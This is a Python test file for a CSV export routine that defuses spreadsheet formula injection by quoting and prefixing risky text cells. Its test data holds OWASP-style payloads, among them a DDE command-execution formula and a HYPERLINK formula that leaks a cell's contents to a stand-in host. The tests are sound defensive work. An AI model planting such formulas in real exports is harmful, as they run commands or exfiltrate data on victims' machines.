"""CSV that spreadsheets open as data: text cells with a formula prefix get a single quote, text
holding a separator of any locale is quoted, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lakehouse.csv_export import frame_csv, neutralise, text_field, write_rows

# OWASP's CSV injection examples, and what a spreadsheet must be given instead
FORMULAS = {
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+1": "'+1",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=x": "'\t=x",
    "\r=x": "'\r=x",
    '=HYPERLINK("http://evil.test","click")': '\'=HYPERLINK("http://evil.test","click")',
}
HARMLESS = ["ocrelizumab", "O'Brien-ü", "P-000001", "a=b", " =1", "'=already text", ""]
# a control character first (U+0000-U+001F, U+007F): LibreOffice 7.4 skipped a NUL and ran the
# formula after it (OWASP ASVS 1.2.10 counts them all as formula prefixes)
CONTROL_FORMULAS = {
    "\x00=1+1": "'\x00=1+1",
    "\x01=1+1": "'\x01=1+1",
    "\x1f=1+1": "'\x1f=1+1",
    "\x7f=1+1": "'\x7f=1+1",
    "\n=1+1": "'\n=1+1",
    '\x00=HYPERLINK("http://evil.test/?leak="&A3;"click")': (
        '\'\x00=HYPERLINK("http://evil.test/?leak="&A3;"click")'
    ),
}
# a formula prefix of OWASP's list or a control character (what no text cell may start with)
RISKY_START = re.compile(r"[=+\-@\x00-\x1f\x7f]")


@pytest.mark.parametrize(("text", "neutralised"), FORMULAS.items())
def test_a_formula_prefix_gets_a_single_quote(text: str, neutralised: str) -> None:
    assert neutralise(text) == neutralised


@pytest.mark.parametrize(("text", "neutralised"), CONTROL_FORMULAS.items(), ids=repr)
def test_a_control_character_before_a_formula_is_a_formula_prefix(
    text: str, neutralised: str
) -> None:
    assert neutralise(text) == neutralised
    frame = pl.DataFrame({"therapy": [text], "n": [-1]})
    for written in (frame_csv(frame), _rows_csv(frame)):
        assert _read(written) == [["therapy", "n"], [neutralised, "-1"]]
    assert frame_csv(frame) == _rows_csv(frame)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


def _read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _hostile_frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "therapy": [*FORMULAS, "x;=1+2", "plain", None],
            "change": [-0.2, -5.0, 3.0, -1.5, 0.0, 2.0, 1.0, -7.0, 4.0, None],
            "steps": [-1, 2, -3, 4, 5, 6, 7, 8, 9, 10],
            "day": [date(2024, 3, d) for d in range(1, 11)],
            "champion": [True, False] * 5,
        }
    )


def test_frame_csv_neutralises_text_and_leaves_numbers_alone() -> None:
    frame = _hostile_frame()

    rows = _read(frame_csv(frame))

    assert rows[0] == ["therapy", "change", "steps", "day", "champion"]
    assert [row[0] for row in rows[1:]] == [*FORMULAS.values(), "x;=1+2", "plain", ""]
    # numbers, negative ones too, are written as numbers: never quoted, never prefixed
    assert [row[1] for row in rows[1:]] == [
        str(v) if v is not None else "" for v in frame["change"]
    ]
    assert [row[2] for row in rows[1:]] == [str(v) for v in frame["steps"]]
    assert frame_csv(frame).splitlines()[3] == "'-2+3,3.0,-3,2024-03-03,true"
    assert rows[1][3:] == ["2024-03-01", "true"]
    # what polars reads back: the numbers as numbers
    back = pl.read_csv(io.StringIO(frame_csv(frame)), try_parse_dates=True)
    assert back["change"].to_list() == frame["change"].to_list()
    assert back["steps"].dtype == pl.Int64 and back["day"].dtype == pl.Date


def test_a_separator_of_another_locale_cannot_start_a_cell() -> None:
    """Where ``;`` separates cells (many European spreadsheets), text holding one is quoted, so
    ``x;=1+2`` stays one text cell instead of a text and a formula."""
    frame = pl.DataFrame({"therapy": ["x;=1+2", "y\t=2", "z|=3"], "n": [-1, 2, 3]})

    for written in (frame_csv(frame), _rows_csv(frame)):
        lines = written.splitlines()
        assert lines[1:] == ['"x;=1+2",-1', '"y\t=2",2', '"z|=3",3']
        for delimiter in (";", "\t", "|"):
            for row in _read(written, delimiter)[1:]:
                assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row[:1]), row


def test_column_names_are_neutralised_too() -> None:
    """A column name can come from data (``PIVOT ... ON therapy``)."""
    frame = pl.DataFrame({"=cmd|' /C calc'!A0": [1], "ok": ["-x"]})

    assert _read(frame_csv(frame)) == [["'=cmd|' /C calc'!A0", "ok"], ["1", "'-x"]]
    assert _read(_rows_csv(frame)) == [["'=cmd|' /C calc'!A0", "ok"], ["1", "'-x"]]


def test_a_categorical_text_column_is_neutralised() -> None:
    frame = pl.DataFrame({"model": pl.Series(["=a", "b"], dtype=pl.Categorical)})
    assert _read(frame_csv(frame)) == [["model"], ["'=a"], ["b"]]


def test_an_empty_text_and_a_missing_value_stay_apart() -> None:
    frame = pl.DataFrame({"note": ["", None, "x"]})
    assert frame_csv(frame) == _rows_csv(frame) == 'note\n""\n""\nx\n'  # as csv.writer does
    two = frame.with_columns(n=pl.lit(1))
    assert frame_csv(two) == _rows_csv(two) == 'note,n\n"",1\n,1\nx,1\n'
    assert text_field("") == '""'


def _rows_csv(frame: pl.DataFrame) -> str:
    out = io.StringIO()
    write_rows(out, frame.columns, frame.iter_rows())
    return out.getvalue()


def test_write_rows_leaves_numbers_and_other_values_alone() -> None:
    out = io.StringIO()
    write_rows(
        out, ["t", "n", "x", "day", "items"], [["-2+3", -5, -2.5, date(2024, 1, 2), ["=a", "b"]]]
    )

    assert _read(out.getvalue()) == [
        ["t", "n", "x", "day", "items"],
        ["'-2+3", "-5", "-2.5", "2024-01-02", "['=a', 'b']"],
    ]


texts = st.text(max_size=20)


@given(st.lists(st.one_of(st.none(), texts), min_size=1, max_size=8))
def test_both_writers_write_the_neutralised_text_and_read_back(values: list[str | None]) -> None:
    frame = pl.DataFrame({"text": values, "n": [-index for index in range(len(values))]})

    written = frame_csv(frame)

    assert written == _rows_csv(frame)
    rows = _read(written)
    assert rows[0] == ["text", "n"]
    expected = ["" if v is None else neutralise(v) for v in values]
    assert [row[0] if row else "" for row in rows[1:]] == expected
    assert [row[1] for row in rows[1:]] == [str(-index) for index in range(len(values))]
    for row in rows[1:]:
        assert not RISKY_START.match(row[0]), row
